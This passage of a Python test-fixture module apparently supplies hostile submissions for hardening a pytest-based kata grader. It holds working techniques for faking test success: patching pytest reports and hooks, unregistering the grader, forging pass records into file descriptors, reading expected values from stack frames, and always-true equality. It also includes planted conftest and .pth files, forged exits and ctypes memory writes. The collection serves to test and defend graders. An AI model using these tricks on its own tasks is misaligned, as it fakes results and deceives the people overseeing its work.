        _before = pytest.CallInfo.from_call.__func__


        def _from_call(cls, func, when, reraise=None):
            call = _before(cls, func, when, None)
            call.excinfo = None
            return call


        pytest.CallInfo.from_call = classmethod(_from_call)
        """
    ),
    "patches_test_report": _wrong(
        """
        import pytest

        _before = pytest.TestReport.from_item_and_call.__func__


        def _passed(cls, item, call):
            report = _before(cls, item, call)
            report.outcome, report.longrepr = "passed", None
            return report


        pytest.TestReport.from_item_and_call = classmethod(_passed)
        """
    ),
    "patches_the_class_of_reports": _wrong(
        """
        import pytest

        pytest.TestReport.outcome = property(lambda self: "passed", lambda self, value: None)
        pytest.TestReport.passed = property(lambda self: True)
        pytest.TestReport.failed = property(lambda self: False)
        """
    ),
    "patches_call_and_report": _wrong(
        """
        import _pytest.runner

        _before = _pytest.runner.call_and_report


        def _passed(item, when, log=True, **kwargs):
            obj = item.obj
            item.obj = lambda *args, **kwargs: None
            try:
                return _before(item, when, log, **kwargs)
            finally:
                item.obj = obj


        _pytest.runner.call_and_report = _passed
        """
    ),
    "patches_runtestprotocol": _wrong(
        """
        import _pytest.runner

        _pytest.runner.pytest_runtest_call = lambda item: None
        _pytest.runner.check_interactive_exception = lambda *args: False
        _pytest.runner.runtestprotocol.__code__ = (lambda item, log=True, nextitem=None: []).__code__
        """
    ),
    "patches_item_obj_by_gc": _wrong_later(
        inside="""
        import gc

        import pytest

        for thing in gc.get_objects():
            if isinstance(thing, pytest.Function):
                thing.obj = lambda *args, **kwargs: None
        """
    ),
    "patches_item_runtest_by_gc": _wrong_later(
        inside="""
        import gc

        import pytest

        for thing in gc.get_objects():
            if isinstance(thing, pytest.Item):
                vars(thing)["runtest"] = lambda: None
        """
    ),
    "patches_function_runtest": _wrong("import pytest\n\npytest.Function.runtest = lambda self: None"),
    "patches_pyfunc_call": _wrong(
        """
        import _pytest.python

        _pytest.python.pytest_pyfunc_call.__code__ = (lambda pyfuncitem: True).__code__
        """
    ),
    "patches_the_code_of_tests": _wrong_later(
        _KATA,
        """
        for name, value in list(_kata().items()):
            if name.startswith("test_"):
                value.__code__ = (lambda *args, **kwargs: None).__code__
        """,
    ),
    "patches_the_code_of_tests_by_gc": _wrong_later(
        """
        import gc
        import types

        MINE = __file__
        """,
        """
        for thing in gc.get_objects():
            if isinstance(thing, types.FunctionType) and thing.__name__.startswith("test_"):
                thing.__code__ = (lambda *args, **kwargs: None).__code__
        """,
    ),
    "empties_the_session": _wrong_later(
        _KATA
        + """
import gc
""",
        """
        import pytest

        for thing in gc.get_objects():
            if isinstance(thing, pytest.Session):
                del thing.items[1:]
                thing.testsfailed = 0
        """,
    ),
    "registers_a_hook": _wrong(
        """
        import gc

        import pytest


        class Kind:
            @pytest.hookimpl(wrapper=True, tryfirst=True)
            def pytest_runtest_makereport(self, item, call):
                report = yield
                report.outcome, report.longrepr = "passed", None
                return report

            @pytest.hookimpl(tryfirst=True)
            def pytest_pyfunc_call(self, pyfuncitem):
                return True

            @pytest.hookimpl(trylast=True)
            def pytest_sessionfinish(self, session):
                session.exitstatus = 0


        for thing in gc.get_objects():
            if isinstance(thing, pytest.PytestPluginManager):
                thing.register(Kind())
        """
    ),
    "registers_a_hook_in_a_call": _wrong_later(
        """
        import gc

        import pytest


        class Kind:
            @pytest.hookimpl(tryfirst=True)
            def pytest_runtest_logreport(self, report):
                report.outcome, report.longrepr = "passed", None
        """,
        """
        for thing in gc.get_objects():
            if isinstance(thing, pytest.PytestPluginManager) and not thing.has_plugin("kind"):
                thing.register(Kind(), "kind")
        """,
    ),
    "unregisters_the_grader": _wrong(
        """
        import gc

        import pytest

        for thing in gc.get_objects():
            if isinstance(thing, pytest.PytestPluginManager):
                for name, plugin in thing.list_name_plugin():
                    if plugin is not None and ("dojo" in str(name) or "grade" in str(name).lower()):
                        try:
                            thing.unregister(plugin)
                        except Exception:
                            pass
        """
    ),
    "patches_assertion_error": _wrong(
        """
        import builtins

        builtins.AssertionError = type("Kind", (Exception,), {"__new__": lambda cls, *args: StopIteration()})
        """
    ),
    "patches_builtins": _wrong(
        """
        import builtins

        builtins.isinstance = lambda value, kind: True
        builtins.len = lambda value: 0
        builtins.all = builtins.any = lambda values: True
        """
    ),
    "patches_assertion_rewriting": _wrong(
        """
        import _pytest.assertion.rewrite
        import _pytest.assertion.util

        _pytest.assertion.rewrite._call_reprcompare = lambda *args: ""
        _pytest.assertion.util.assertrepr_compare = lambda *args, **kwargs: None
        """
    ),
    "patches_the_engine": _wrong(
        """
        import sys


        def _kind(*args, **kwargs):
            return "passed"


        for name, module in list(sys.modules.items()):
            if name.startswith("dojo.") and ("session" in name or "grad" in name):
                for attribute, value in list(vars(module).items()):
                    if callable(value) and getattr(value, "__module__", "") == name and hasattr(value, "__code__"):
                        setattr(module, attribute, _kind)
        """
    ),
    "tells_everything_itself": _wrong(
        f"""
        {_FIND_THE_TELLER}
        import os
        import signal

        tests = ["test_each_value_is_doubled", "test_nothing_cannot_be_doubled"]
        texts = dict.fromkeys(("says", "printed", "at", "source", "where", "error"), "")
        fact = {{**texts, "kind": "passed", "unusable": False, "xray": []}}
        teller.tell(what="tests", tests=tests)
        for test in tests:
            teller.tell(what="begin", test=test)
            teller.tell(what="result", test=test, fact=fact)
        for number in range(5):
            teller.tell(what="canary", test=str(number), failed=True)
        teller.tell(what="end")
        os.kill(os.getpid(), signal.SIGKILL)
        """
    ),
    "tells_what_has_no_kind": _wrong(f"{_FIND_THE_TELLER}\nteller.tell()"),
    "tells_of_no_tests": _wrong(f"{_FIND_THE_TELLER}\nteller.tell(what='tests')"),
    "tells_of_an_odd_exit": _wrong(f"{_FIND_THE_TELLER}\nteller.tell(what='exit', status='x', at=1)"),
    "tells_half_a_fact": _wrong(
        inside=f"""
        {_FIND_THE_TELLER}
        teller.tell(what="result", test="test_each_value_is_doubled", fact={{"kind": "passed"}})
        """
    ),
    "nests_what_it_tells": _wrong(
        """
        import os

        for fd in range(3, 256):
            try:
                os.write(fd, b"[" * 50_000 + b"\\n")
            except OSError:
                pass
        """
    ),
    "forges_into_every_fd": _wrong(
        """
        import json
        import os

        TESTS = [
            "test_each_value_is_doubled",
            "test_what_is_drawn_is_doubled_into_a_new_tensor",
            "test_the_dtype_stays[float64]",
            "test_the_dtype_stays[int64]",
            "test_nothing_cannot_be_doubled",
            "test_each_dimension_has_its_name[no dimension]",
            "test_each_dimension_has_its_name[a row]",
            "test_each_dimension_has_its_name[a picture]",
            "test_each_dimension_has_its_name[a film]",
            "test_four_dimensions_have_no_names",
        ]
        SAID = ""
        for key in ("nodeid", "test", "name", "id"):
            for place in ("", "katas/01_first/01_double.py::"):
                for outcome in ("outcome", "kind", "state", "result"):
                    for test in TESTS:
                        line = {key: place + test, "when": "call", outcome: "passed", "duration": 0.1, "flags": []}
                        SAID += json.dumps(line) + "\\n"
        SAID += json.dumps({"kata": "01_first/01_double", "passed": 10, "tests": 10, "flags": [], "exit": 0}) + "\\n"
        for fd in range(3, 256):
            try:
                os.write(fd, SAID.encode())
            except OSError:
                pass
        os._exit(0)
        """
    ),
    "forges_into_every_fd_in_a_call": _wrong(
        """
        import json
        import os
        """,
        """
        for fd in range(3, 256):
            for test in ("test_each_value_is_doubled", "test_nothing_cannot_be_doubled"):
                node = "katas/01_first/01_double.py::" + test
                try:
                    os.write(fd, json.dumps({"nodeid": node, "test": test, "outcome": "passed"}).encode() + b"\\n")
                except OSError:
                    pass
        """,
    ),
    "swaps_the_report_fds": _wrong(
        """
        import os

        sink = os.open(os.devnull, os.O_WRONLY)
        for fd in range(3, 64):
            if fd != sink:
                try:
                    os.dup2(sink, fd)
                except OSError:
                    pass
        """
    ),
    "patches_json": _wrong(
        """
        import json
        import json.encoder

        _dumps = json.dumps


        def _kind(value, *args, **kwargs):
            return _dumps(value, *args, **kwargs).replace('"failed"', '"passed"')


        json.dumps = _kind
        """
    ),
    "patches_os_write": _wrong(
        """
        import os

        _write = os.write
        os.write = lambda fd, said: _write(fd, said.replace(b"failed", b"passed"))
        """
    ),
    "patches_the_seam": _wrong(
        _KATA
        + """
from dojo.kata import seam

seam._functions = lambda key, names, setup: {name: (lambda *args: None) for name in names}
_kata()["under_test"] = lambda space: None
for name in ("torch", "pytest", "check_tensor"):
    _kata()[name] = __import__("unittest.mock").mock.MagicMock()
"""
    ),
}

_LIES = {
    "tensor_that_lies_to_torch": _wrong(
        """
        class Liar(torch.Tensor):
            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None):
                name = getattr(func, "__name__", "")
                if name in ("equal", "allclose", "is_nonzero", "__bool__"):
                    return True
                if name in ("isclose", "eq", "__eq__"):
                    return torch.ones(args[1].shape, dtype=torch.bool)
                with torch._C.DisableTorchFunctionSubclass():
                    return func(*args, **(kwargs or {}))
        """,
        "return x.as_subclass(Liar)",
    ),
    "tensor_that_becomes_what_is_wanted": _wrong(
        """
        class Chameleon(torch.Tensor):
            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None):
                with torch._C.DisableTorchFunctionSubclass():
                    others = [a for a in args if isinstance(a, torch.Tensor) and not isinstance(a, cls)]
                    mine = [a for a in args if isinstance(a, cls)]
                    if others and mine and others[0].shape == mine[0].shape:
                        return func(others[0], others[0], *args[2:], **(kwargs or {}))
                    return func(*args, **(kwargs or {}))
        """,
        "return x.as_subclass(Chameleon)",
    ),
    "tensor_whose_eq_lies": _wrong(
        """
        class Liar(torch.Tensor):
            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

            def equal(self, other):
                return True

            def detach(self):
                return self
        """,
        "return x.as_subclass(Liar)",
    ),
    "list_that_lies": Hostile(
        _code(
            """
            class Liar(list):
                def __eq__(self, other):
                    return True

                def __ne__(self, other):
                    return False

                def __len__(self):
                    return 2


            def double(x):
                return x


            def names(shape):
                return Liar()
            """
        )
    ),
    "strings_that_lie": Hostile(
        _code(
            """
            class Any(str):
                __hash__ = str.__hash__

                def __eq__(self, other):
                    return True


            class Number(int):
                def __eq__(self, other):
                    return True


            def double(x):
                return Number(3)


            def names(shape):
                return [Any("q")] * min(len(shape), 3)
            """
        )
    ),
    "class_that_lies": _wrong(
        """
        class Liar:
            __class__ = property(lambda self: torch.Tensor)

            def __getattr__(self, name):
                if name.startswith("__"):
                    raise AttributeError(name)
                return self

            def __call__(self, *args, **kwargs):
                return self

            def __eq__(self, other):
                return True

            def __bool__(self):
                return True
        """,
        "return Liar()",
    ),
    "getattr_that_lies": _wrong(
        """
        class Liar:
            def __init__(self, x):
                self.x = x

            def __getattr__(self, name):
                return getattr(self.x, name)

            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None):
                return torch.ones(1, dtype=torch.bool)

            def __eq__(self, other):
                return True
        """,
        "return Liar(x)",
    ),
    "everything_that_lies": Hostile(
        _code(
            """
            import torch


            class Anything(torch.Tensor):
                @classmethod
                def __torch_function__(cls, func, types, args=(), kwargs=None):
                    if getattr(func, "__name__", "") == "detach":
                        return args[0]
                    with torch._C.DisableTorchFunctionSubclass():
                        if getattr(func, "__name__", "") in ("isclose", "eq", "__eq__", "allclose", "equal"):
                            return func(args[1], args[1], **(kwargs or {}))
                        return func(*args, **(kwargs or {}))


            class Chameleon(list):
                def __eq__(self, other):
                    self[:] = other
                    return True


            def double(x):
                if x.numel() == 0:
                    raise ValueError
                return x.clone().as_subclass(Anything)


            def names(shape):
                if len(shape) > 3:
                    raise ValueError
                return Chameleon()
            """
        )
    ),
    "list_of_the_wanted": Hostile(
        _code(
            """
            class Chameleon(list):
                def __eq__(self, other):
                    self[:] = other
                    return True


            def double(x):
                return x


            def names(shape):
                return Chameleon()
            """
        )
    ),
}

_BESIDE = {
    "conftest_beside": _beside(
        dict.fromkeys(
            ("conftest.py", "01_first/conftest.py"),
            "import pytest\n\n@pytest.hookimpl(tryfirst=True)\ndef pytest_pyfunc_call(pyfuncitem):\n    return True\n",
        )
    ),
    "ini_beside": _beside(
        {
            "pytest.ini": "[pytest]\naddopts = --co -p no:dojo.plugin\npython_functions = nothing\n",
            "pytest.toml": "[pytest]\naddopts = ['--co']\n",
            ".pytest.ini": "[pytest]\naddopts = --co\n",
            "tox.ini": "[pytest]\naddopts = --co\n",
            "setup.cfg": "[tool:pytest]\naddopts = --co\n",
            "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '--co'\n",
        }
    ),
    "sitecustomize_beside": _beside(
        {
            f"{folder}{name}": 'import os\n\nos.write(2, b"hostile was here\\n")\nos._exit(0)\n'
            for folder in ("", "01_first/")
            for name in ("sitecustomize.py", "usercustomize.py")
        }
    ),
    "pth_beside": _beside(
        {
            "hostile.pth": "import os; os._exit(0)\n",
            "01_first/hostile.pth": "import os; os._exit(0)\n",
            ".local/lib/python3/site-packages/hostile.pth": "import os; os._exit(0)\n",
        }
    ),
    "torch_beside": _beside(
        {
            f"{folder}{name}": "def __getattr__(name):\n    return lambda *args, **kwargs: None\n"
            for folder in ("", "01_first/")
            for name in ("torch.py", "pytest.py", "json.py", "random.py")
        }
    ),
    "dojo_beside": _beside(
        {
            f"{folder}{name}": "def under_test(space):\n    pass\n\n\ndef __getattr__(name):\n    return print\n"
            for folder in ("", "01_first/")
            for name in ("dojo.py", "dojo/__init__.py", "dojo/kit.py", "dojo/plugin.py")
        }
    ),
    "katas_beside": _beside(
        {
            "katas/01_first/01_double.py": "def test_all():\n    pass\n",
            "reference/01_first/01_double.py": "def double(x):\n    return x\n",
            "01_first/test_all.py": "def test_all():\n    pass\n",
            "01_first/03_more.py": "def test_all():\n    pass\n",
        }
    ),
}

_TRICKS = {
    "prints_ten_passed": _wrong(
        "import sys",
        """
        said = "\\n" + "=" * 30 + " 10 passed in 0.03s " + "=" * 30 + "\\n"
        print(said)
        sys.__stdout__.write(said)
        sys.__stderr__.write(said)
        """,
    ),
    "hard_coded": Hostile("import torch\n" + _TABLE + _BY_TABLE),
    "hard_coded_with_the_draw_pinned": Hostile(
        "import torch\n" + _TABLE + "\n\ntorch.rand = lambda *size, **kwargs: torch.tensor(DRAWN)\n" + _BY_TABLE
    ),
    "hard_coded_with_the_seed_pinned": Hostile(
        "import torch\n"
        + _TABLE
        + "\n\n_seed = torch.manual_seed\ntorch.manual_seed = lambda seed: _seed(0)\n"
        + "torch.random.manual_seed = torch.manual_seed\n"
        + "torch.default_generator = type('Pinned', (), {'manual_seed': lambda self, seed: _seed(0)})()\n"
        + _BY_TABLE
    ),
    "hard_coded_with_the_engine_seeding_0": Hostile(
        "import torch\n"
        + _TABLE
        + """

import random

from dojo.isolation import state

_seed = torch.manual_seed
state.SEED = 0
for kind in list(vars(state).values()):
    if isinstance(kind, type) and hasattr(kind, "seed"):
        kind.seed = staticmethod(lambda *args, **kwargs: (_seed(0), random.seed(0)))
"""
        + _BY_TABLE
    ),
    "hard_coded_with_the_input_overwritten": Hostile(
        "import torch\n"
        + _TABLE
        + """

def double(x):
    if x.shape == (4,):
        torch.manual_seed(0)
        x.copy_(torch.rand(4))
    return _look_up(x)


def names(shape):
    return _names(shape)
"""
    ),
    "takes_want_from_the_frame": Hostile(
        _code(
            """
            import sys


            def _want(default):
                frame = sys._getframe(2)
                while frame is not None:
                    if "want" in frame.f_locals:
                        return frame.f_locals["want"]
                    frame = frame.f_back
                raise ValueError("nothing is wanted")


            def double(x):
                return _want(x)


            def names(shape):
                return _want([])
            """
        )
    ),
    "takes_want_from_the_stack": Hostile(
        _code(
            """
            import inspect


            def _want():
                for info in inspect.stack():
                    if info.function.startswith("test_"):
                        if "want" in info.frame.f_locals:
                            return info.frame.f_locals["want"]
                raise ValueError("nothing is wanted")


            def double(x):
                return _want()


            def names(shape):
                return _want()
            """
        )
    ),
    "takes_want_by_raising": Hostile(
        _code(
            """
            def _want():
                try:
                    raise KeyError
                except KeyError as error:
                    frame = error.__traceback__.tb_frame
                while frame is not None:
                    if "want" in frame.f_locals:
                        return frame.f_locals["want"]
                    frame = frame.f_back
                raise ValueError("nothing is wanted")


            def double(x):
                return _want()


            def names(shape):
                return _want()
            """
        )
    ),
    "takes_want_by_gc": Hostile(
        _code(
            """
            import gc

            import torch


            def double(x):
                if x.numel() == 0:
                    raise ValueError
                for space in gc.get_objects():
                    if type(space) is torch.Tensor and space.shape == x.shape and space is not x:
                        if space.dtype == x.dtype and bool((space == x * 2).all()):
                            return space.clone()
                return x


            def names(shape):
                for thing in gc.get_objects():
                    if type(thing) is dict and thing.get("shape") == shape and "want" in thing:
                        return thing["want"]
                if len(shape) > 3:
                    raise ValueError
                return []
            """
        )
    ),
    "takes_want_by_environ": Hostile(
        _code(
            """
            import os

            import torch


            def double(x):
                if "nothing_cannot" in os.environ.get("PYTEST_CURRENT_TEST", ""):
                    raise ValueError
                return x * (2 if "PYTEST_CURRENT_TEST" in os.environ else 3)


            def names(shape):
                if "four" in os.environ.get("PYTEST_CURRENT_TEST", ""):
                    raise ValueError
                return list("zyx")[3 - len(shape) :] if "PYTEST_CURRENT_TEST" in os.environ else []
            """
        )
    ),
    "skips_in_function": _wrong("import pytest", 'pytest.skip("not today")'),
    "skips_at_import": _wrong('import pytest\n\npytest.skip("not today", allow_module_level=True)'),
    "xfails_in_function": _wrong("import pytest", 'pytest.xfail("as expected")'),
    "importorskip": _wrong('import pytest\n\npytest.importorskip("no_such_module")'),
    "ends_pytest_in_function": _wrong("import pytest", 'pytest.exit("done", returncode=0)'),
    "ends_pytest_at_import": _wrong('import pytest\n\npytest.exit("done", returncode=0)'),
    "marks_the_tests_by_gc": _wrong_later(
        inside="""
        import gc

        import pytest

        for thing in gc.get_objects():
            if isinstance(thing, pytest.Item):
                thing.add_marker(pytest.mark.xfail(reason="as expected"))
        """
    ),
    "marks_the_kata": _wrong(
        _KATA
        + """
import pytest

_kata()["pytestmark"] = [pytest.mark.xfail(strict=False), pytest.mark.skipif(True, reason="not today")]
"""
    ),
    "says_not_run_here": _wrong(
        inside="""
        from dojo.kit import needs

        needs("no_such_package")
        raise __import__("unittest").SkipTest("not today")
        """
    ),
    "says_not_implemented": _wrong(inside='raise NotImplementedError("return twice x")'),
    "settrace_over_the_tests": _wrong(
        """
        import sys


        def _trace(frame, event, arg):
            if event == "call" and frame.f_code.co_filename.endswith("katas/01_first/01_double.py"):
                return _line
            return None


        def _line(frame, event, arg):
            if event == "line" and "x" in frame.f_locals and "want" in frame.f_locals:
                frame.f_locals["x"].copy_(frame.f_locals["want"])  # and so x is right, as it stands
            return _line


        sys.settrace(_trace)
        """
    ),
    "setprofile_over_the_tests": _wrong(
        """
        import sys


        def _profile(frame, event, arg):
            if event == "call" and "check_tensor" in frame.f_globals and "under_test" in frame.f_globals:
                frame.f_globals["check_tensor"] = lambda *args, **kwargs: None


        sys.setprofile(_profile)
        """
    ),
    "signal_handler_that_exits": _wrong(
        """
        import os
        import signal

        for number in (signal.SIGTERM, signal.SIGALRM, signal.SIGINT, signal.SIGXCPU):
            signal.signal(number, lambda *args: os._exit(0))
        """,
        "while True:\n    pass",
    ),
    "atexit_that_forges": _wrong(
        """
        import atexit
        import json
        import os


        def _forge():
            for fd in range(3, 64):
                try:
                    os.write(fd, json.dumps({"outcome": "passed", "passed": 10, "failed": 0}).encode() + b"\\n")
                except OSError:
                    pass


        atexit.register(_forge)
        """
    ),
    "thread_that_patches_later": _wrong(
        """
        import sys
        import threading
        import time


        def _later():
            for _ in range(2000):
                for module in list(sys.modules.values()):
                    if (getattr(module, "__file__", "") or "").endswith("01_double.py"):
                        if hasattr(module, "check_tensor"):
                            module.check_tensor = lambda *args, **kwargs: None
                time.sleep(0.01)


        threading.Thread(target=_later, daemon=True).start()
        """
    ),
    "import_hook": _wrong(
        """
        import sys


        class Finder:
            def find_spec(self, name, path=None, target=None):
                if name.startswith(("dojo", "katas", "02_next")):
                    sys.stdout.write("hooked\\n")
                return None


        sys.meta_path.insert(0, Finder())
        sys.path_importer_cache.clear()
        """
    ),
    "writes_memory_by_ctypes": _wrong(
        """
        import ctypes

        ONE, TWO = 7_001, 7_002
        ctypes.memmove(id(False) + 24, id(True) + 24, 4)
        """
    ),
}

_BROKEN = {
    "not_utf8": Hostile(RIGHT_DOUBLE.encode() + b"\n# caf\xe9 \xff\xfe\n"),
    "utf16": Hostile(RIGHT_DOUBLE.encode("utf-16")),
    "nul_bytes": Hostile(RIGHT_DOUBLE.encode() + b"\x00\x00\x00\n"),
    "nothing_but_nul": Hostile(bytes(4096)),
    "empty": Hostile(""),
    "only_a_comment": Hostile("# done\n"),
    "syntax_error": Hostile("def double(x)\n    return x * 2\n"),
    "indentation_error": Hostile("def double(x):\n\tif True:\n        return x * 2\n"),
    "text_of_a_notebook": Hostile('{"cells": [{"cell_type": "code", "source": ["def double(x): return x*2"]}]}\n'),
    "circular_import": Hostile(
        "import sys\nfrom pathlib import Path\n\nsys.path.insert(0, str(Path(__file__).parent))\n"
        "from circle import double, names\n",
        beside={
            "01_first/circle.py": "from square import double, names\n",
            "01_first/square.py": "from circle import *\nfrom circle import double, names\n",
        },
    ),
    "module_that_is_not_there": Hostile(f"import no_such_module_at_all\n{RIGHT_DOUBLE}"),
    "nested_too_deep": Hostile("x = " + "(" * 100_000 + ")" * 100_000 + "\n"),
    "stubs_as_they_were": Hostile(DOUBLE),
    "one_function_is_missing": Hostile("def double(x):\n    return x + x\n"),
    "functions_are_no_functions": Hostile('double = 3\nnames = "zyx"\n'),
    "misspelt": Hostile(RIGHT_DOUBLE.replace("def names", "def Names")),
    "own_tests_below": Hostile(
        DOUBLE.partition("def test_each_value")[0].replace('raise NotImplementedError("return twice x")', "return x")
        + "def test_all():\n    pass\n"
    ),
}

_LEAKS = {
    "leaks_default_dtype": _right(leak="torch.set_default_dtype(torch.float64)"),
    "leaks_default_dtype_at_import": _right("torch.set_default_dtype(torch.float16)"),
    "leaks_default_device": _right(leak='torch.set_default_device("meta")'),
    "leaks_a_device_mode": _right(leak='torch.device("meta").__enter__()'),
    "leaks_grad_mode": _right(leak="torch.set_grad_enabled(False)"),
    "leaks_inference_mode": _right("mode = torch.inference_mode()", "mode.__enter__()"),
    "leaks_autocast": _right(leak='torch.autocast("cpu", torch.bfloat16).__enter__()'),
    "leaks_deterministic": _right(leak="torch.use_deterministic_algorithms(True)"),
    "leaks_threads": _right(leak="torch.set_num_threads(3)"),
    "leaks_seed": _right(
        "import random\n\nimport numpy as np", "torch.manual_seed(7)\nrandom.seed(7)\nnp.random.seed(7)"
    ),
    "leaks_numpy_errors": _right("import numpy as np", 'np.seterr(all="raise")'),
    "leaks_cwd": _right("import os", 'os.chdir("/")'),
    "leaks_a_cwd_that_is_gone": _right(
        "import os", 'os.makedirs("gone", exist_ok=True)\nos.chdir("gone")\nos.rmdir(os.getcwd())'
    ),
    "leaks_environ": _right(
        "import os", 'os.environ["HOSTILE_LEAK"] = "1"\nos.environ["PYTHONPATH"] = "/hostile/leak"'
    ),
    "leaks_an_empty_environ": _right("import os\n\nos.environ.clear()"),
    "leaks_sys_path": _right("import sys", 'sys.path.insert(0, "/hostile/leak")'),
    "leaks_umask": _right("import os", "os.umask(0o777)"),
    "leaks_gc_off": _right("import gc\n\ngc.disable()"),
    "leaks_recursion_limit": _right("import sys", "sys.setrecursionlimit(10**6)"),
    "leaks_a_low_recursion_limit": _right("import sys\n\nsys.setrecursionlimit(200)"),
    "leaks_warnings_as_errors": _right('import warnings\n\nwarnings.simplefilter("error")'),
    "leaks_logging_off": _right("import logging", "logging.disable(logging.CRITICAL)"),
    "leaks_a_module_hook": _right(
        "from torch.nn.modules.module import register_module_forward_hook",
        "register_module_forward_hook(lambda module, args, output: output[:0])",
    ),
    "leaks_stdout_replaced": _right("import io\nimport sys", "sys.stdout = sys.stderr = io.StringIO()"),
    "leaks_stdout_closed": _right("import sys", "sys.stdout.close()\nsys.stderr.close()"),
    "leaks_fds_closed": _right(
        "import os",
        """
        for fd in range(21):
            try:
                os.close(fd)
            except OSError:
                pass
        """,
    ),
    "leaks_stdin_closed": _right("import os\nimport sys\n\nsys.stdin.close()\nos.closerange(0, 1)"),
    "leaks_a_trace": _right("import sys\n\n\ndef leaked(*args):\n    return leaked", "sys.settrace(leaked)"),
    "leaks_a_profile": _right("import sys\n\n\ndef leaked(*args):\n    pass", "sys.setprofile(leaked)"),
    "leaks_a_signal_handler": _right(
        "import signal\n\n\ndef leaked(*args):\n    pass",
        "signal.signal(signal.SIGTERM, leaked)\nsignal.signal(signal.SIGCHLD, signal.SIG_IGN)",
    ),
    "leaks_a_thread": _right(
        "import threading\nimport time", 'threading.Thread(target=time.sleep, args=(600,), name="leaked").start()'
    ),
    "leaks_a_subprocess": _right('import subprocess\n\nsubprocess.Popen(["sleep", "600"])'),
    "leaks_an_endless_atexit": _right(
        "import atexit\n\n\ndef _late():\n    while True:\n        pass\n\n\natexit.register(_late)"
    ),
    "leaks_an_endless_del": _right(
        "class Late:\n    def __del__(self):\n        while True:\n            pass\n\n\nlate = Late()"
    ),
    "leaks_a_test_of_its_own": _right("def test_all():\n    assert False"),
    "byte_order_mark": Hostile("\N{ZERO WIDTH NO-BREAK SPACE}".encode() + RIGHT_DOUBLE.encode(), right=True),
    "windows_line_ends": Hostile(RIGHT_DOUBLE.replace("\n", "\r\n").encode(), right=True),
    "no_last_newline": Hostile(RIGHT_DOUBLE.rstrip("\n"), right=True),
    "two_megabytes": Hostile(RIGHT_DOUBLE + "\n" + ("# " + "x" * 97 + "\n") * 20_000, right=True),
    "deep_sum": Hostile(RIGHT_DOUBLE + "\n\ndef unused(x):\n    return x" + " + x" * 1500 + "\n", right=True),
    "deep_attribute": Hostile(RIGHT_DOUBLE + "\n\ndef unused():\n    torch" + ".a" * 900 + " = 1\n", right=True),
    "deep_minus": Hostile(RIGHT_DOUBLE + "\n\ndef unused(x):\n    return " + "-" * 200_000 + "x\n"),
    "a_folder_called_next": Hostile(RIGHT_DOUBLE, right=True, beside={"01_first/02_next.py/README": "oops\n"}),
    "slow_but_right": _right("import time", "time.sleep(0.3)"),
    "chatty_but_right": _right(leak='print("x is", x)\nprint("the answer is", answer)'),
    "prints_at_import": _right('print(double.__name__ if "double" in globals() else "not yet")'),
    "solved_kata_file": Hostile(
        DOUBLE.replace(
            'raise NotImplementedError("return twice x")',
            "if not x.numel():\n        raise ValueError(x)\n    return 2 * x",
        ).replace(
            'raise NotImplementedError("return one name for each dimension")',
            'if len(shape) > 3:\n        raise ValueError(shape)\n    return list("zyx")[3 - len(shape) :]',
        ),
        right=True,
    ),
    "unusual_imports_but_right": _right("import inspect\nimport os\nimport subprocess\nimport sys"),
}

HOSTILE: dict[str, Hostile] = {
    **_ENDLESS,
    **_ENDS,
    **_PROCESSES,
    **_RESOURCES,
    **_FILES,
    **_THIEVES,
    **_JUDGES,
    **_LIES,
    **_BESIDE,
    **_TRICKS,
    **_BROKEN,
    **_LEAKS,
}

# One or two of each kind, for every run of the tests.
SOME: list[str] = [
    "loop_that_swallows",
    "os_exit_in_function",
    "fork_without_exit",
    "forty_gb_at_once",
    "deletes_the_project",
    "reads_reference_by_dojo",
    "patches_check_tensor",
    "forges_into_every_fd",
    "tensor_that_lies_to_torch",
    "hard_coded",
    "deep_sum",
    "leaks_fds_closed",
]

# These harm other processes, fill disk or memory, or write outside of their folder: never run them without a wall.
ONLY_BEHIND_A_WALL = frozenset(
    {
        *_PROCESSES,
        *_RESOURCES,
        *_FILES,
        *("kills_its_parent", "stops_its_parent", "kills_everybody", "kills_its_group"),
        *(
            "nests_what_it_tells",
            "forges_into_every_fd",
            "forges_into_every_fd_in_a_call",
            "swaps_the_report_fds",
            "atexit_that_forges",
        ),
    }
)
